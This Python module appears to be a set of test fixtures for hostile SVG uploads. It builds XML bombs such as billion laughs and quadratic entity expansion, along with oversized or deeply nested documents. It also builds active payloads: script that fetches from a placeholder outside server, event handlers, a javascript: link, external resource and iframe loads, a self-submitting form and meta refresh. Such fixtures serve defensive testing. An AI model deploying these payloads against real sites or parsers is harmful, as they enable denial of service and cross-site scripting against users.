"""SVG files that mean harm: some cost time, some act when they are opened."""

from __future__ import annotations

from collections.abc import Callable
from itertools import islice, product
from string import ascii_letters

LIMIT = 5 * 1024 * 1024
OPEN = b'<svg xmlns="http://www.w3.org/2000/svg"'
HTML = 'xmlns="http://www.w3.org/1999/xhtml"'


def filled(piece: bytes, end: bytes = b"</svg>") -> bytes:
    """An open svg with as many pieces as an upload may hold."""
    return OPEN + b">" + piece * ((LIMIT - 100) // len(piece)) + end


def named(pattern: bytes) -> bytes:
    """One tag with as many attributes as an upload may hold, each of another name."""
    pieces = (pattern % "".join(name).encode() for name in product(ascii_letters, repeat=4))
    return OPEN + b"".join(islice(pieces, (LIMIT - 100) // len(pattern % b"aaaa"))) + b"/>"


# made when they are asked for: together they are 70 MB
COSTLY: dict[str, Callable[[], bytes]] = {
    "billion laughs": lambda: b"<!DOCTYPE svg ["
    + b"".join(b'<!ENTITY a%d "%s">' % (n + 1, b"&a%d;" % n * 10) for n in range(9))
    + b"]>" + OPEN + b">&a9;</svg>",
    "quadratic laughs": lambda: b'<!DOCTYPE svg [<!ENTITY a "%s">]>' % (b"x" * 100_000)
    + OPEN + b">" + b"&a;" * 100_000 + b"</svg>",
    "default attributes": lambda: b"<!DOCTYPE svg ["
    + b"".join(b'<!ATTLIST g a%d CDATA "x">' % n for n in range(2000))
    + b"]>" + OPEN + b">" + b"<g/>" * 150_000 + b"</svg>",
    "deep": lambda: filled(b"<g>", b""),
    "deep in namespaces": lambda: filled(b'<g xmlns="b">', b""),
    "wide": lambda: filled(b"<g/>"),
    "attributes": lambda: named(b' %s=""'),
    "namespaces": lambda: named(b' xmlns:%s="a"'),
    "instructions": lambda: filled(b"<?a?>"),
    "sections": lambda: filled(b"<![CDATA[x]]>"),
    "comments": lambda: filled(b"<!---->"),
    "references": lambda: filled(b"&#120;"),
    "one text": lambda: filled(b"x"),
    "one attribute": lambda: OPEN + b' a="' + b"x" * (LIMIT - 100) + b'"/>',
    "one name": lambda: b"<" + b"s" * (LIMIT - 100) + b"/>",
    "never closed": lambda: OPEN + b" a='" + b"x" * (LIMIT - 100),
}  # fmt: skip

# {out} is the address of another server
ACTIVE = {
    "script": '<script>document.title="ran";fetch("{out}/script")</script>',
    "script of html": f'<script {HTML}>document.title="ran"</script>',
    "far script": '<script href="{out}/far.js"/>',
    "handlers": """<g onload="document.title='ran'"/>"""
    """<image href="x" onerror="document.title='ran'"/>""",
    "animated link": '<a href="#"><set attributeName="href" to="javascript:alert(1)"/></a>',
    "images": '<image href="{out}/image"/><use href="{out}/use#a"/>'
    '<filter id="f"><feImage href="{out}/fe"/></filter>'
    '<rect filter="url(#f)" width="9" height="9"/>',
    "styles": "<style>@import url({out}/css);@font-face{{font-family:x;src:url({out}/font)}}"
    "text{{font-family:x;fill:url({out}/paint#a)}}</style><text y='9'>x</text>",
    "foreign": f'<foreignObject width="9" height="9"><iframe {HTML} src="{{out}}/frame"/>'
    f'<img {HTML} src="{{out}}/img"/><object {HTML} data="{{out}}/object"/>'
    f'<video {HTML} src="{{out}}/video" autoplay=""/><embed {HTML} src="{{out}}/embed"/>'
    "</foreignObject>",
    "form": f'<foreignObject width="9" height="9"><form {HTML} action="{{out}}/form">'
    '<input autofocus="" onfocus="this.form.submit()"/></form></foreignObject>',
}
LEADING = {
    "refresh": f'<meta {HTML} http-equiv="refresh" content="0;url={{out}}/refresh"/>',
    "refresh inside": f'<foreignObject><html {HTML}><head><meta http-equiv="refresh"'
    ' content="0;url={out}/inside"/></head></html></foreignObject>',
    "connect": f'<link {HTML} rel="preconnect" href="{{out}}/"/>',
}


def opened(inner: str, out: str) -> bytes:
    """The image with this inside."""
    return OPEN + b' width="90" height="90">' + inner.format(out=out).encode() + b"</svg>"
